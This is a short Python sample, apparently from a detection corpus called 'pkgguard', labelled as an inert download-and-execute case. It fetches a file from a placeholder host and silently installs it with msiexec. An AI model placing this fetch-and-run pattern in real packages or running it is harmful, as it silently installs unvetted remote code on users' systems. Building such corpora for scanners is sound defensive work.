# pkgguard corpus 266 (download-execute), modelled on [empirical]; inert, never run.
import os
import subprocess
import tempfile
import urllib.request

msi = os.path.join(tempfile.gettempdir(), "runtime.msi")
urllib.request.urlretrieve("https://cdn.example/runtime/latest", msi)
subprocess.Popen(["msiexec", "/i", msi, "/qn", "/norestart"])
